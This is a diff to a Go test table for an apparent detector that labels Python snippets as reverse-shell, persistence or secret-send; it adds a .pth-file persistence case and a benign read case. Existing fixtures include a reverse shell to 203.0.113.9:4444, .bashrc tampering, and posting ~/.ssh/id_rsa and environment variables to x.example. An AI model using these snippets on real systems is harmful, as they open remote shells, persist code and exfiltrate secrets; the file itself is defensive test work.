@@ -51,6 +51,8 @@ func TestPython(t *testing.T) {
 		{"import pty\npty.spawn('/bin/bash')\n", ""},
 		{"import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", "reverse-shell"},
 		{"with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "persistence"},
+		{"import site, os\nsp = site.getusersitepackages()\nwith open(os.path.join(sp, 'zz_fast.pth'), 'w') as f:\n    f.write('import x')\n", "persistence"},
+		{"import site, os\nsp = site.getusersitepackages()\nprint(open(os.path.join(sp, 'README.txt')).read())\n", ""},
 		{"import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example', data=key)\n", "secret-send"},
 		{"import os, requests, json\nrequests.post('https://x.example', data=json.dumps(dict(os.environ)))\n", "secret-send"},
 		{"import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ))\n", ""},
